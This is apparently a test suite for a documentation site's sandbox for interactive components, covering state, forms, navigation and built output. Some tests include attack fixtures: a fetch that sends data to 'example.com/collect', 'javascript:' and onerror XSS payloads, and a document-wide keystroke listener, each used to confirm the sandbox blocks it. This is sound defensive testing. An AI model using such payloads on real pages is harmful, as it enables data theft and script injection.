import assert from 'node:assert/strict';
import {readFile} from 'node:fs/promises';
import {join} from 'node:path';
import {describe, it} from 'node:test';
import {builtSite} from '../harness/built-site.mjs';
import {folderWith, runCommand} from '../harness/command.mjs';
import {openSingleFile} from '../harness/open-single-file.mjs';
import {openSite} from '../harness/open-site.mjs';
import {inDialog, openSearch} from '../harness/search-dialog.mjs';
import {root} from '../harness/sources.mjs';
import {startWire} from '../harness/wire-server.mjs';
import {newPageFor} from '../harness/browser.mjs';
import {strictPolicy} from '../harness/strict-policy.mjs';

const headers = {'Content-Security-Policy': strictPolicy};

/** A page that shows the component `Part`, whose code is this. */
const pageWith = (code, tag = '<Part />') => `---
title: Part
---

${code.trim()}

${tag}
`;

const counter = `
export const Part = () => {
  const [count, setCount] = useState(0);
  return (
    <div>
      <button onClick={() => setCount(count + 1)}>Add one</button>
      <output>{count} clicks</output>
      {count > 1 && <Note>More than one.</Note>}
    </div>
  );
};
`;

const config = {name: 'Acme', navigation: {pages: ['part', 'other']}};
const other = '---\ntitle: Other\n---\n\nAnother page.\n';

/** Opens a site with one page that shows `Part`. */
function openPart(t, code, {files = {}, tag, ...options} = {}) {
  const page = pageWith(code, tag);
  return openSite(t, {
    files: {'docs.json': config, 'part.mdx': page, 'other.mdx': other, ...files},
    headers,
    route: '#/part',
    ...options,
  });
}

const textOf = (page, selector) => page.$eval(selector, ({textContent}) => textContent.trim());

describe('components that react', () => {
  it('change what they show, under a strict policy', async (t) => {
    const site = await openPart(t, counter);
    await site.says('0 clicks');
    await site.click('button', 'Add one');
    assert.equal(await textOf(site.page, 'output'), '1 clicks');
    await site.page.keyboard.press('Enter');
    assert.equal(await textOf(site.page, 'output'), '2 clicks');
    await site.says('More than');
    assert.equal(await site.page.evaluate(() => document.activeElement.textContent), 'Add one');
    assert.deepEqual(site.problems, []);
  });

  it('load nothing on pages without them', async (t) => {
    const plain = 'export const Part = ({n = 2}) => <b>{n * 2} parts</b>;';
    const site = await openPart(t, plain);
    await site.says('4 parts');
    await site.settled();
    const requested = () => site.server.requests.filter((url) => /\/interactive\.js/.test(url));
    assert.deepEqual(requested(), []);
    const reacting = await openPart(t, counter);
    await reacting.says('0 clicks');
    assert.equal(
      reacting.server.requests.some((url) => /\/interactive\.js/.test(url)),
      true,
    );
  });

  it('have forms, whose fields show what the state says', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [names, setNames] = useState([]);
  const [name, setName] = useState('');
  const [sent, setSent] = useState('');
  const field = useRef(null);
  const add = (event) => {
    event.preventDefault();
    setSent(JSON.stringify(Object.fromEntries(new FormData(event.target))));
    setNames([...names, name]);
    setName('');
    field.current.focus();
  };
  return (
    <form onSubmit={add}>
      <input type="checkbox" name="off" aria-label="Off" />
      <input type="checkbox" name="on" aria-label="On" defaultChecked />
      <select name="plan" aria-label="Plan"><option>Free</option><option>Team</option></select>
      <input ref={field} name="person" aria-label="Name" required value={name}
        onChange={(event) => setName(event.target.value.toUpperCase())} />
      <button>Add</button>
      <output>{names.join(' and ')}</output>
      <code>{sent}</code>
    </form>
  );
};`,
    );
    const field = await site.find('textbox', 'Name');
    await field.type('ada');
    assert.equal(await field.evaluate(({value}) => value), 'ADA');
    await site.page.keyboard.press('Enter');
    assert.equal(await textOf(site.page, 'output'), 'ADA');
    assert.equal(await textOf(site.page, 'code'), '{"on":"on","plan":"Free","person":"ADA"}');
    // An empty field that is required keeps the form from being submitted.
    await site.click('button', 'Add');
    assert.equal(await textOf(site.page, 'output'), 'ADA');
    await field.type('Bob');
    await site.click('button', 'Add');
    assert.equal(await textOf(site.page, 'output'), 'ADA and BOB');
    assert.equal(await field.evaluate((element) => element === document.activeElement), true);
    assert.equal(
      site.server.requests.some((url) => url.includes('?')),
      false,
    );
  });

  it('end with their page: timers, listeners and effects', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [ticks, setTicks] = useState(0);
  useEffect(() => {
    const timer = setInterval(() => setTicks((before) => before + 1), 10);
    const listen = () => setTicks(1000);
    window.addEventListener('resize', listen);
    return () => {
      localStorage.setItem('ended', 'yes');
    };
  }, []);
  useEffect(() => { localStorage.setItem('ticks', ticks); }, [ticks]);
  return <output>{ticks > 2 ? 'It ticks' : 'It begins'}</output>;
};`,
    );
    await site.says('It ticks');
    const stored = () =>
      site.page.evaluate(() => {
        const key = Object.keys(localStorage).find((name) => name.endsWith('#code'));
        return Object.fromEntries(JSON.parse(localStorage.getItem(key)));
      });
    await site.goTo('#/other');
    await site.shown('other');
    await site.says('Another page.');
    const {ticks, ended} = await stored();
    assert.equal(ended, 'yes');
    // Frames come later than what a timer of ten milliseconds would do.
    await site.page.evaluate(async () => {
      for (let frames = 0; frames < 20; frames++) await new Promise(requestAnimationFrame);
      dispatchEvent(new Event('resize'));
      await new Promise(requestAnimationFrame);
    });
    assert.equal((await stored()).ticks, ticks);
    await site.goBack();
    await site.shown('part');
    await site.says('It ticks');
  });

  it('read files of the site, and ask no other host', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [text, setText] = useState('Loading');
  useEffect(() => {
    const load = async () => {
      const response = await fetch('/data.json');
      const {name} = await response.json();
      try {
        await fetch('https://example.com/collect?name=' + name);
      } catch (error) {
        setText(name + ', but ' + error.message);
      }
    };
    load();
  }, []);
  return <output>{text}</output>;
};`,
      {files: {'data.json': {name: 'Ada'}}, isAuthors: true},
    );
    await site.says('Ada, but requests “https://example.com/collect?name=Ada”');
    assert.deepEqual(site.problems, []);
  });

  it('send requests to the origins that docs.json names, without cookies', async (t) => {
    const {url: origin, arrived} = await startWire(t, {
      answer: (_, response) => response.writeHead(201, {'X-Answer': 'yes'}).end('{"id": 7}'),
    });
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [text, setText] = useState('Nothing');
  const send = async () => {
    const response = await fetch('${origin}/votes', {
      method: 'POST',
      credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-Key': 'k'},
      body: JSON.stringify({vote: 'up'}),
    });
    const {id} = await response.json();
    setText([response.status, id, response.headers.get('X-Answer')].join(' '));
  };
  return <p><button onClick={send}>Send</button><output>{text}</output></p>;
};`,
      {
        files: {'docs.json': {...config, components: {origins: [`${origin}/`]}}},
        headers: {'Content-Security-Policy': `${strictPolicy}; connect-src 'self' ${origin}`},
        isAuthors: true,
      },
    );
    await site.page.evaluate(() => (document.cookie = 'session=secret'));
    await site.click('button', 'Send');
    await site.says('201 7 yes');
    const [{method, headers: fields, body}] = arrived;
    assert.deepEqual(
      [method, fields.cookie, fields['x-key'], String(body)],
      ['POST', undefined, 'k', '{"vote":"up"}'],
    );
    // The preflight, and the request itself.
    assert.deepEqual(site.problems.splice(0), Array(2).fill(`request: ${origin}/votes`));
  });

  it('stop when they do too much, and the rest of the page lives', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [count, setCount] = useState(0);
  return <button onClick={() => { setCount(1); for (;;) count + 1; }}>Loop {count}</button>;
};
export const Endless = () => {
  const [count, setCount] = useState(0);
  const [isOn, setOn] = useState(false);
  useEffect(() => { if (isOn) setCount(count + 1); });
  return <button onClick={() => setOn(true)}>Endless</button>;
};
export const Timers = () => {
  const start = () => { for (let n = 0; n < 5000; n++) setTimeout(() => {}, 1000); };
  return <button onClick={start}>Timers</button>;
};
export const Calm = () => {
  const [count, setCount] = useState(0);
  return <button onClick={() => setCount(count + 1)}>Calm {count}</button>;
};`,
      {tag: '<Part /> <Endless /> <Timers /> <Calm />', isAuthors: true},
    );
    for (const name of ['Loop 0', 'Endless', 'Timers']) await site.click('button', name);
    await site.click('button', 'Calm 0');
    await site.find('button', 'Calm 1');
    await site.find('button', 'Loop 0');
    const problems = await site.page.waitForSelector('>>> docs-problems');
    const count = ({diagnostics}) =>
      diagnostics.filter(({code}) => code === 'page/not-run').length === 3;
    await site.page.waitForFunction(count, {}, problems);
    const messages = await problems.evaluate(({diagnostics}) =>
      diagnostics.filter(({code}) => code === 'page/not-run').map(({message}) => message),
    );
    assert.deepEqual(messages, [
      '<Part> no longer reacts: its code needs more than 500000 steps at once.',
      '<Endless> no longer reacts: its code changes its state more than 50 times in a row.',
      '<Timers> no longer reacts: its code starts more than 1000 timers.',
    ]);
    // These are no matter of another page.
    await site.goTo('#/other');
    await site.page.waitForFunction(() => {
      const panel = document.querySelector('docs-site').shadowRoot.querySelector('docs-problems');
      return !panel?.diagnostics.some(({code}) => code === 'page/not-run');
    });
  });

  it('find and change elements, by the rules for what pages show', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [log, setLog] = useState([]);
  const note = (text) => setLog((all) => [...all, text]);
  const change = (event) => {
    note(event.target.closest('div').parentElement.matches('body *') + event.target.dataset.item);
    try { document.querySelector(':not(html body *)'); } catch (error) { note(error.name); }
    const hint = document.querySelector('[data-hint="below"]');
    note(hint.getAttribute('data-hint') + event.currentTarget.dataset.page);
    hint.setAttribute('data-open', true);
    hint.setAttribute('aria-label', 'Opened');
    hint.textContent = 'Changed';
    for (const [name, value] of [['onclick', 'x()'], ['style', 'color: red'], ['href', '/x']]) {
      try { hint.setAttribute(name, value); } catch (error) { note(error.message); }
    }
    try { event.currentTarget.parentElement.textContent = ''; } catch (error) { note(error.name); }
  };
  return (
    <div>
      <button data-page="7" data-on={log.length > 0} onClick={change}>
        <b data-item="3">Change</b>
      </button>
      <i id="hint" data-hint="below">Hint</i>
      <output>{log.join(' ')}</output>
    </div>
  );
};`,
    );
    await site.click('button', 'Change');
    await site.says('below7');
    const found = await site.page.$eval('#hint', (element) => [
      element.outerHTML.replace(/<!--.*?-->/g, ''),
      element.previousElementSibling.dataset.on,
      element.nextElementSibling.textContent.replaceAll('Code cannot set the attribute ', ''),
    ]);
    assert.deepEqual(found, [
      '<i id="hint" data-hint="below" data-open="true" aria-label="Opened">Changed</i>',
      'true',
      'false3 TypeError below7 “onclick”. “style”. “href”. TypeError',
    ]);
    await site.click('button', 'Change');
    await site.says('TypeError false3');
  });

  it('read the URL of the page, change its query, and open other pages', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [text, setText] = useState('Nothing');
  const read = () => setText(location.pathname + ' ' + window.location.search + location.hash);
  const filter = () => {
    const url = new URL(window.location);
    url.searchParams.set('term', 'a b');
    window.history.replaceState(null, '', url);
    read();
  };
  return (
    <div>
      <button onClick={filter}>Filter</button>
      <button onClick={() => { window.location.href = '/other?from=part#end'; }}>Leave</button>
      <output>{text}</output>
    </div>
  );
};`,
    );
    await site.click('button', 'Filter');
    const {pathname} = new URL(site.server.url);
    await site.says(`${pathname}part ?term=a+b`);
    assert.match(await site.url(), /#\/part\?term=a\+b$/);
    await site.click('button', 'Leave');
    await site.shown('other');
    assert.match(await site.url(), /#\/other\?from=part#end$/);
  });

  it('share a store that statements of their file make of a class', async (t) => {
    const site = await openPart(
      t,
      `
import {Choice, Choose} from '/snippets/store.jsx';

export const Part = () => <Choose />;`,
      {
        tag: '<Part /> <Choice />',
        files: {
          'snippets/store.jsx': `
class Store {
  listeners = [];
  listen(listener) { this.listeners.push(listener); }
  choose(value) { this.value = value; this.listeners.forEach((listener) => listener(value)); }
}
if (typeof window !== 'undefined' && !window.store) window.store = new Store();
export const Choose = () => <button onClick={() => window.store.choose('team')}>Choose</button>;
export const Choice = () => {
  const [value, setValue] = useState('nothing');
  useEffect(() => window.store.listen(setValue), []);
  return <output>{value}</output>;
};`,
        },
        isAuthors: true,
      },
    );
    await site.says('nothing');
    await site.click('button', 'Choose');
    await site.says('team');
    assert.deepEqual(site.problems, []);
  });

  it('know the mode of the site, and when it changes, however often they observe', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [mode, setMode] = useState('unknown');
  const [told, setTold] = useState([0, 0]);
  useEffect(() => {
    const root = document.documentElement;
    const read = () => setMode(root.classList.contains('dark') ? 'dark' : 'light');
    read();
    const once = new MutationObserver(() => { read(); setTold(([a, b]) => [a + 1, b]); });
    const twice = new MutationObserver(() => setTold(([a, b]) => [a, b + 1]));
    once.observe(root, {attributes: true, attributeFilter: ['class']});
    twice.observe(root, {attributes: true, attributeFilter: ['class']});
    twice.observe(root, {attributes: true, attributeFilter: ['class', 'style']});
    return () => { once.disconnect(); twice.disconnect(); };
  }, []);
  return <div>Mode: {mode} <output>{told.join()}</output></div>;
};`,
    );
    const choose = (mode) =>
      site.page.$eval('docs-site', (element, value) => void (element.mode = value), mode);
    await site.shown('part');
    for (const mode of ['dark', 'light']) {
      await choose(mode);
      await site.says(`Mode: ${mode}`);
    }
    const [once, twice] = (await textOf(site.page, 'output')).split(',');
    assert.notEqual(once, '0');
    assert.equal(twice, once);
  });

  it('open a window only when the reader acts', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [text, setText] = useState('begins');
  const [target, setTarget] = useState('');
  const [image, setImage] = useState('');
  const leave = () => {
    setImage('It failed');
    location.href = 'https://example.com/';
  };
  const open = () => window.open('https://example.com/');
  const openFrom = (event) => {
    setTarget(event.target.tagName);
    open();
  };
  useEffect(() => {
    open();
    navigator.clipboard.writeText('x').catch((error) => setText(error.message));
  }, []);
  return <div><output>{text}</output><button onClick={open}>Open</button>
    <button id="icon" onClick={openFrom}><Icon icon="star" size={60} /></button>
    <i>{target}</i><img alt="" src="/none.png" onError={leave} />{image}</div>;
};`,
    );
    const opened = [];
    site.page.on('popup', (page) => opened.push(page));
    await site.says('Only an event of the reader may write to the clipboard.');
    assert.equal(opened.length, 0);
    // Browsers trust this event, which no reader has caused.
    await site.says('It failed');
    assert.match(await site.url(), /#\/part$/);
    const popup = new Promise((done) => site.page.once('popup', done));
    await site.click('button', 'Open');
    await (await popup).close();
    assert.equal(opened.length, 1);
    // The icon has a shadow root of its own.
    const another = new Promise((done) => site.page.once('popup', done));
    await site.page.click('#icon docs-icon');
    await (await another).close();
    assert.equal(await textOf(site.page, 'i'), 'DOCS-ICON');
  });

  it('focus a field that a click shows, and learn which label the reader selects', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [isOpen, setOpen] = useState(false);
  const [score, setScore] = useState('');
  // A component of its own in each rendering: its field is another one after each key.
  const Score = () => (
    <input aria-label="Score" autoFocus value={score} onBlur={() => setOpen(false)}
      onChange={(event) => setScore(event.target.value)} />
  );
  const [label, setLabel] = useState(localStorage.getItem('code') ?? 'none');
  useEffect(() => {
    const note = (event) => setLabel(event.detail.key + event.detail.value);
    window.addEventListener('localStorageUpdate', note);
    return () => window.removeEventListener('localStorageUpdate', note);
  });
  return (
    <div>
      <button onClick={() => setOpen(true)}>Edit</button>
      {isOpen && <Score />}
      <b>Score: {score}</b>
      <p id="free" contentEditable suppressContentEditableWarning>Free</p>
      <output>{label}</output>
    </div>
  );
};`,
      {tag: '<Part />\n\n<Tabs>\n<Tab title="React">A</Tab>\n<Tab title="Vue">B</Tab>\n</Tabs>'},
    );
    await site.says('none');
    await site.click('button', 'Edit');
    await site.page.waitForFunction(() => document.activeElement.ariaLabel === 'Score');
    await site.page.keyboard.type('42');
    await site.says('Score: 42');
    assert.equal(await site.page.evaluate(() => document.activeElement.ariaLabel), 'Score');
    await site.page.click('#free');
    await site.page.keyboard.type('X');
    assert.match(await textOf(site.page, '#free'), /X/);
    await site.click('tab', 'Vue');
    await site.says('code"Vue"');
    await site.page.reload();
    await site.says('"Vue"');
  });

  it('never learn what readers enter outside of them', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [keys, setKeys] = useState('');
  useEffect(() => {
    const note = (event) => setKeys((before) => before + event.key);
    document.addEventListener('keydown', note);
    return () => document.removeEventListener('keydown', note);
  }, []);
  return <div><input aria-label="Own" /><output>Keys: {keys}</output></div>;
};`,
    );
    await (await site.find('textbox', 'Own')).type('a');
    assert.equal(await textOf(site.page, 'output'), 'Keys: a');
    await site.page.click('output');
    await openSearch(site);
    await site.page.keyboard.type('secret');
    await inDialog(site, (dialog) => dialog.activeElement?.value === 'secret');
    assert.doesNotMatch(await textOf(site.page, 'output'), /[secrt]{2}/);
  });

  it('have headings with refs and events', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const heading = useRef(null);
  const [isShown, setShown] = useState(true);
  const [log, setLog] = useState([]);
  const note = (text) => setLog((all) => [...all, text]);
  return (
    <div>
      <button onClick={() => heading.current.scrollIntoView()}>Go</button>
      <button onClick={() => setShown(false)}>Hide</button>
      <button onClick={() => note(heading.current ? heading.current.id : 'none')}>Ask</button>
      <output>{log.join(' ')}</output>
      <div style={{height: '300vh'}} />
      {isShown && (
        <h2 id="head" className="big" ref={heading} onClick={() => note('clicked')}>
          Head {log.length}
        </h2>
      )}
      <div style={{height: '300vh'}} />
    </div>
  );
};`,
    );
    await site.click('button', 'Ask');
    assert.equal(await textOf(site.page, 'output'), 'head');
    await site.page.$eval('#head', (heading) => heading.click());
    await site.page.$eval('#head', (heading) => heading.click());
    assert.equal(await textOf(site.page, 'output'), 'head clicked clicked');
    await site.says('Head 3');
    await site.click('button', 'Go');
    await site.page.waitForFunction(() => {
      const {top} = document.querySelector('#head').getBoundingClientRect();
      return top >= 0 && top < innerHeight / 2;
    });
    await site.click('button', 'Hide');
    await site.click('button', 'Ask');
    assert.equal(await textOf(site.page, 'output'), 'head clicked clicked none');
    assert.deepEqual(site.problems, []);
  });

  it('show the code of their state, with its colors and lines', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = ({children}) => {
  const [index, setIndex] = useState(0);
  const codes = ['{"one": 1}', '{"two": 2,\\n "b": true}'];
  return (
    <div>
      <button onClick={() => setIndex(1)}>Next</button>
      <CodeBlock language="json" lines>{codes[index]}</CodeBlock>
      <CodeBlock>{children[index]}</CodeBlock>
    </div>
  );
};`,
      {tag: '<Part>\n```json\n[1]\n```\n\n```js\nif (a) b();\n```\n</Part>'},
    );
    const shows = (index, text, lines) =>
      site.page.waitForFunction(
        (at, wanted, count) => {
          const blocks = [...document.querySelectorAll('docs-code')];
          const block = blocks.filter(({parentElement}) => !parentElement.closest('docs-code'))[at];
          const code = block?.shadowRoot?.querySelector('[part="code"]');
          return (
            code?.textContent === wanted &&
            code.querySelector('span[class]:not(.line)') !== null &&
            code.querySelectorAll('.line').length === count
          );
        },
        {},
        index,
        text,
        lines,
      );
    await shows(0, '{"one": 1}', 1);
    await shows(1, '[1]', 0);
    await site.click('button', 'Next');
    await shows(0, '{"two": 2,\n "b": true}', 2);
    await shows(1, 'if (a) b();', 0);
    assert.deepEqual(site.problems, []);
  });

  it('keep to the rules for what pages show', async (t) => {
    const site = await openPart(
      t,
      `
export const Part = () => {
  const [url, setUrl] = useState('/other');
  const attack = (event) => {
    setUrl('java' + 'script:window.stolen=1');
    event.currentTarget.innerHTML = '<img src=x onerror="window.stolen=1">';
  };
  return (
    <div>
      <button onClick={attack}>Attack</button>
      <a id="target" href={url} style={{backgroundImage: 'url(' + url + ')'}} onclick={url}>Link</a>
      <iframe title="Frame" srcdoc={url} />
    </div>
  );
};`,
    );
    await site.click('button', 'Attack');
    const link = await site.page.$eval('#target', (element) => ({
      href: element.getAttribute('href'),
      names: element.getAttributeNames().join(),
      background: element.style.backgroundImage,
    }));
    assert.deepEqual(link, {href: null, names: 'id', background: ''});
    assert.equal(await site.page.$eval('iframe', (frame) => frame.hasAttribute('srcdoc')), false);
    assert.equal(await site.page.evaluate(() => 'stolen' in window), false);
  });

  it('show their first state in built pages, and react there and in one file', async (t) => {
    const files = {
      'docs.json': JSON.stringify(config),
      'part.mdx': pageWith(counter),
      'other.mdx': other,
    };
    const built = await builtSite(t, files);
    const html = await readFile(join(built.out, 'part.html'), 'utf8');
    assert.match(html, /<output[^>]*>0 clicks<\/output>/);
    assert.doesNotMatch(html, /<button[^>]*onclick/i);
    const page = await newPageFor(t);
    await page.goto(`${built.url}part`);
    await page.waitForFunction(() => !document.querySelector('.docs-site-layout'));
    await (await page.waitForSelector('::-p-aria([name="Add one"][role="button"])')).click();
    await page.waitForSelector('::-p-text(1 clicks)');

    const file = join(await folderWith(t), 'site.html');
    const {code, error} = await runCommand(['build', built.folder, '--single-file', '--out', file]);
    assert.equal(code, 0, error);
    const single = await openSingleFile(t, file, '#/part');
    await single.shown('part');
    const button = await single.page.waitForSelector('::-p-aria([name="Add one"][role="button"])');
    await button.click();
    await single.page.waitForSelector('::-p-text(1 clicks)');
    assert.deepEqual(single.faults, []);
  });
});

describe('the guide to components that react', () => {
  it('shows the source of each of its examples', async () => {
    const page = await readFile(join(root, 'demo/guide/interactive-components.mdx'), 'utf8');
    const fences = [...page.matchAll(/^```jsx (snippets\/\S+)\n([^]*?)^```/gm)];
    assert.equal(fences.length, 5);
    for (const [, file, source] of fences) {
      assert.equal(source, await readFile(join(root, 'demo', file), 'utf8'), file);
    }
  });
});
